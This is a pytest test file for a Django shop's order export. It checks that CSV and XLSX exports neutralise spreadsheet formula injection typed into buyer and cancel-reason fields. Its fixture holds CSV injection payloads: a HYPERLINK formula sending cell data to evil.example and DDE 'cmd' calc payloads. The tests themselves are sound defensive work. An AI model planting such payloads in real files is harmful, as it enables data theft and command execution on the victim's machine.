"""The "Semua Pesanan" export (CSV and XLSX): what a buyer typed is never run as a formula when the
owner opens the file, and numbers stay numbers."""

import csv
import io

import pytest

from shop.models import Order
from tests.helpers import desk_url, processed_order, signed_in, workbook

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("fast_passwords")]

# Typed by a buyer at checkout, or by staff as a cancel reason.
TYPED = {
    "recipient_name": '=HYPERLINK("http://evil.example/?x="&A2,"klik")',
    "street": "-2+3+cmd|' /C calc'!A0",
    "district": "@SUM(1+1)*cmd|' /C calc'!A0",
    "city": "+cmd|' /C calc'!A0",
    "cancel_reason": "\t=1+1",
}
HEADINGS = {
    "recipient_name": "Nama penerima",
    "street": "Alamat",
    "district": "Kecamatan",
    "city": "Kota/Kabupaten",
    "cancel_reason": "Alasan pembatalan",
}


@pytest.fixture
def typed_order(buyer, product):
    order = processed_order(buyer, (product, 2))
    Order.objects.filter(pk=order.pk).update(phone="+6281234567890", **TYPED)
    order.refresh_from_db()
    return order


def export(admin_user, export_format):
    response = signed_in(admin_user).get(desk_url("all", "index", query=f"?export={export_format}"))
    assert response.status_code == 200
    return response


def test_csv_export_writes_typed_text_with_a_leading_apostrophe(typed_order, admin_user):
    response = export(admin_user, "csv")
    content = b"".join(response.streaming_content).decode("utf-8")
    header, row = list(csv.reader(io.StringIO(content)))
    cells = dict(zip(header, row, strict=True))

    for field, typed in TYPED.items():
        assert cells[HEADINGS[field]] == "'" + typed, field
    assert cells["Telepon"] == "+6281234567890", "a phone number is data, not a formula"
    assert cells["Total"] == str(typed_order.total)
    assert cells["Nomor pesanan"] == typed_order.number


def test_xlsx_export_stores_typed_text_as_text(typed_order, admin_user):
    response = export(admin_user, "xlsx")
    sheet = workbook(response).active
    header = [cell.value for cell in sheet[1]]
    row = dict(zip(header, sheet[2], strict=True))

    for field, typed in TYPED.items():
        assert (row[HEADINGS[field]].value, row[HEADINGS[field]].data_type) == (typed, "s"), field
    assert (row["Total"].value, row["Total"].data_type) == (typed_order.total, "n")
